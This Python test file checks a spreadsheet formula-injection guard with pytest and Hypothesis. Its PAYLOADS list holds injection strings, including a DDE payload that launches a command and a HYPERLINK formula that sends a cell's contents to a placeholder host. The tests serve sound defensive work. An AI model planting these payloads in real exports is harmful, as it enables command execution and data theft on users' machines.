from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.io.formula_guard import guard, unguard

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    '"=1+1', ";=1+1", ",=1+1", "\u200b=1+1", "\ufeff=1+1", "  =1+1", "'=1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?"&A1)', "+81-90-1234-5678",
)  # fmt: skip
HARMLESS = (
    "",
    "山田 花子",
    "090-1234-5678",
    "O'Brien",
    "'たかし",
    "a=b",
    "1+1",
    "東京都渋谷区1-2-3",
    "(03)1234",
)


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_would_be_formula_is_guarded_and_comes_back(text: str) -> None:
    assert guard(text) == "'" + text
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@ \t\r\n\";,\ufeff＝"), st.characters())))
def test_every_text_comes_back(text: str) -> None:
    assert unguard(guard(text)) == text


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\"a1")))
def test_guarding_twice_comes_back_twice(text: str) -> None:
    assert unguard(unguard(guard(guard(text)))) == text
